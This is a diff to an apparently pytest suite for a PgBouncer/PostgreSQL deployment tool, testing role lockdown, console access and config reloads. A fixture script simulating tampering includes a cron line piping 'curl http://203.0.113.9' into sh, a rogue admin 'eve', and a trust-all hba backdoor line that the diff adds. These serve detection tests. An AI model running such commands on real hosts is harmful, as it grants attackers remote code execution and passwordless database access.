@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 import json
+import re
 import resource
 import threading
 import time
@@ -443,6 +444,106 @@ def test_the_admin_console_is_the_superusers(pooled: Pooled) -> None:
         refused = _console(pooled, "psscript", password)
         assert refused.returncode == 2 and "cl_active" not in refused.stdout
     assert _console(pooled, "postgres", pooled.password).returncode == 2
+
+
+def _inner(pooled: Pooled) -> dict[str, str]:
+    """The roles of the infrastructure, with their passwords."""
+    names = {"postgres": "POSTGRES_PASSWORD", "pgbouncer": "PGBOUNCER_AUTH_PASSWORD"}
+    secrets = {role: pooled.project.secrets[name] for role, name in names.items()}
+    return secrets | {"datatier_backup": "keepers-Password-1"}
+
+
+@contextmanager
+def _keeper(pooled: Pooled) -> Iterator[None]:
+    """The role of the backup service, which this estate has not."""
+    secret = _inner(pooled)["datatier_backup"]
+    admin(pooled.host, f"CREATE ROLE datatier_backup LOGIN PASSWORD '{secret}'")
+    admin(pooled.host, "GRANT CONNECT ON DATABASE psscript TO datatier_backup")
+    try:
+        yield
+    finally:
+        admin(pooled.host, "DROP OWNED BY datatier_backup; DROP ROLE datatier_backup")
+
+
+# The second is what 1.18 says of replication, whoever asks.
+_REJECTED = "login rejected|unsupported startup parameter: replication"
+
+
+def test_roles_of_the_infrastructure_reach_no_database_through_the_pooler(pooled: Pooled) -> None:
+    """With the right passwords, near and far; the console has its superuser, and only near."""
+    host, near = pooled.host, ("127.0.0.1", "/var/run/postgresql", pooled.host.address)
+    databases = ("psscript", "postgres", "PGBOUNCER", "'dbname=psscript replication=database'")
+    with _keeper(pooled):
+        for role, secret in _inner(pooled).items():
+            direct = psql(host, "SELECT 'in'", role=role, password=secret, port=5432)
+            assert said(direct) == "in", role
+            for address, name in ((a, d) for a in near for d in databases):
+                refused = psql(
+                    host, "SELECT 'in'", role=role, password=secret, database=name, address=address
+                )
+                assert re.search(_REJECTED, refused.stderr), (role, name, address, refused)
+            for name in ("psscript", "pgbouncer"):
+                with pytest.raises(psycopg.OperationalError, match=r"login rejected|not allowed"):
+                    pooled.login(role, secret, name).close()
+    for address in near:
+        shown = psql(
+            host,
+            "SHOW VERSION",
+            role="postgres",
+            password=pooled.project.secrets["POSTGRES_PASSWORD"],
+            database="pgbouncer",
+            address=address,
+        )
+        assert said(shown).startswith("PgBouncer 1."), address
+    own = "psql -XAtqw -h /var/run/postgresql -p 6432 -d pgbouncer -c 'SHOW VERSION' -U"
+    assert said(host.run(f"{own} pgbouncer", user="postgres")).startswith("PgBouncer 1.")
+    assert pooled.asks("psscript", "SELECT current_user") == "psscript"
+
+
+def test_a_line_of_the_settings_opens_the_console(older: Pooled, lab: Lab) -> None:
+    """What PgBouncer does not understand is refused, and the running one goes on as it was."""
+    secret = older.project.secrets["POSTGRES_PASSWORD"]
+    line = f"host pgbouncer postgres {lab.gateway}/32 scram-sha-256"
+    with older.settings({"pgbouncer_hba": [line]}) as run:
+        assert older.changed(run) == {"PgBouncer: configuration", "PgBouncer: service"}
+        assert older.asks("postgres", "SHOW VERSION", secret, "pgbouncer")
+        before = footprint(older.host)
+        older.project.settings({"pgbouncer_hba": ["host all all example.org scram-sha-256"]})
+        refused = older.project.pyinfra("-y", "inventory.py", "deploy.py")
+        assert refused.code == 1 and "failed to parse address - example.org" in refused.output
+        assert footprint(older.host) == before
+    with pytest.raises(psycopg.OperationalError, match="login rejected"):
+        older.login("postgres", secret, "pgbouncer").close()
+
+
+# As the release before the file of lines left it.
+_WITHOUT_LINES = """
+cd /etc/pgbouncer; rm pg_hba.conf
+sed -i '/^auth_hba_file/d; s/^auth_type = .*/auth_type = scram-sha-256/' pgbouncer.ini
+runuser -u postgres -- sh -c 'kill -HUP $(cat /var/run/postgresql/pgbouncer.pid)'
+"""
+
+
+def test_the_lines_come_with_a_reload(pooled: Pooled) -> None:
+    """Clients of the release before it go on, within their transactions too."""
+    host, secret = pooled.host, pooled.project.secrets["POSTGRES_PASSWORD"]
+    host.run(_WITHOUT_LINES)
+    eventually(lambda: pooled.login("postgres", secret).close(), 5)
+    before = main_process(host, "pgbouncer")
+    with pooled.login() as patient, patient.transaction():
+        patient.execute("CREATE TEMP TABLE kept (a int)")
+        plan = pooled.project.plan()
+        run = pooled.project.deploy()
+        patient.execute("SELECT FROM kept")
+    assert plan.planned == run.changed
+    assert "/etc/pgbouncer/pg_hba.conf: create" in run.output
+    assert "pgbouncer: reload" in run.output
+    assert main_process(host, "pgbouncer") == before
+    assert "login rejected" in pooled.refuses("postgres", secret)
+    host.run("rm /etc/pgbouncer/pg_hba.conf")
+    pooled.project.deploy()
+    assert "login rejected" in pooled.refuses("postgres", secret)
+    assert pooled.asks("psscript", "SELECT 1") == 1
 
 
 # --- What the lookup role may do -----------------------------------------------------------------
@@ -925,6 +1026,7 @@ echo 'log_connections = off' >/var/tmp/theirs.conf; chmod 644 /var/tmp/theirs.co
 sed -i 's/^admin_users.*/admin_users = postgres, eve/' /etc/pgbouncer/pgbouncer.ini
 echo '%include /dev/null' >>/etc/pgbouncer/pgbouncer.ini
 echo '"eve" "eves-Password-1"' >>/etc/pgbouncer/userlist.txt
+echo 'host all eve 0.0.0.0/0 trust' >>/etc/pgbouncer/pg_hba.conf
 echo '* * * * * postgres curl -s http://203.0.113.9 | sh' >/etc/cron.d/zzh
 echo '* * * * * curl -s http://203.0.113.9 | sh' | crontab -u postgres -
 install -d -o postgres /var/lib/postgresql/.ssh
@@ -949,6 +1051,7 @@ runuser -u postgres -- psql -qd psscript -c "
 """
 _BY_HAND_LINES = (
     "'host all all 0.0.0.0/0 trust'",
+    "'host all eve 0.0.0.0/0 trust'",
     "'%include /dev/null'",
     "'admin_users = postgres, eve'",
     "'\"eve\"'",
